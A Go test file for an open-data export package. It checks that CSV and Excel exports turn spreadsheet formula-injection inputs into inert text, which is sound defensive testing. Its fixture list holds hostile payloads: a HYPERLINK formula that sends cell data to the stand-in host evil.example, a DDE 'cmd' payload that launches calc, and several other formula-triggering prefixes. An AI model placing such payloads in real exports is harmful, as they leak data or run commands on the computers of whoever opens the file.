package opendata

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

// hostileCells are names an editor (or a pasted export) could give an indicator, unit,
// level, group, author, source or basis, each of which a spreadsheet would evaluate if
// written as is at the start of a CSV cell.
var hostileCells = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`,
	`=cmd|' /C calc'!A0`,
	`+1+1`,
	`-2+3`,
	`@SUM(1,2)`,
	"\t=1+1",
	"\r=1+1",
}

func hostileTable() *Table {
	day := time.Date(2024, 4, 30, 0, 0, 0, 0, time.UTC)
	t := &Table{Name: "ket-qua", Title: "Kết quả", Fields: []Field{
		{Name: "name", Type: "string"}, {Name: "value", Type: "number"}, {Name: "change", Type: "integer"}, {Name: "end", Type: "date"},
	}}
	for i, s := range hostileCells {
		t.Rows = append(t.Rows, []any{s, -63.4, int64(-2 - i), day})
	}
	return t
}

// TestCSVFormulasInert reads every CSV back: a text cell that a spreadsheet would read as
// a formula starts with an apostrophe; numbers, negative ones too, stay numbers.
func TestCSVFormulasInert(t *testing.T) {
	out := hostileTable().CSV()
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(out, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, s := range hostileCells {
		row := recs[i+1]
		// encoding/csv drops a carriage return inside a field, as spreadsheets do.
		if row[0] != "'"+strings.ReplaceAll(s, "\r", "") {
			t.Errorf("row %d: name cell %q, want %q", i+1, row[0], "'"+s)
		}
		if row[1] != "-63.4" || row[2] != strconv.Itoa(-2-i) {
			t.Errorf("row %d: numbers changed: %q %q", i+1, row[1], row[2])
		}
	}
	if recs[1][3] != "2024-04-30" {
		t.Errorf("date cell %q", recs[1][3])
	}
	// A text that does not start a formula is left alone, even with = inside.
	plain := &Table{Fields: []Field{{Name: "name", Type: "string"}}, Rows: [][]any{{"Cấp xã = 1"}, {"Tỷ lệ -"}}}
	r, _ := csv.NewReader(bytes.NewReader(plain.CSV()[3:])).ReadAll()
	if r[1][0] != "Cấp xã = 1" || r[2][0] != "Tỷ lệ -" {
		t.Errorf("plain text changed: %q", r)
	}
}

// TestWorkbookFormulasAreText opens the XLSX with a spreadsheet reader: the same names are
// text cells holding exactly what the editor typed, with no formula, and numbers are
// numbers.
func TestWorkbookFormulasAreText(t *testing.T) {
	data, err := Workbook("t", "c", time.Date(2024, 5, 1, 0, 0, 0, 0, time.UTC), []*Table{hostileTable()})
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for i, s := range hostileCells {
		cell, _ := excelize.CoordinatesToCellName(1, i+2)
		if formula, _ := f.GetCellFormula("ket-qua", cell); formula != "" {
			t.Errorf("%s holds the formula %q", cell, formula)
		}
		if typ, _ := f.GetCellType("ket-qua", cell); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
			t.Errorf("%s: cell type %v, want text", cell, typ)
		}
		if v, _ := f.GetCellValue("ket-qua", cell, excelize.Options{RawCellValue: true}); v != s {
			t.Errorf("%s = %q, want %q", cell, v, s)
		}
		num, _ := excelize.CoordinatesToCellName(2, i+2)
		if typ, _ := f.GetCellType("ket-qua", num); typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
			t.Errorf("%s: cell type %v, want a number", num, typ)
		}
		if v, _ := f.GetCellValue("ket-qua", num, excelize.Options{RawCellValue: true}); v != "-63.4" {
			t.Errorf("%s = %q, want -63.4", num, v)
		}
	}
}
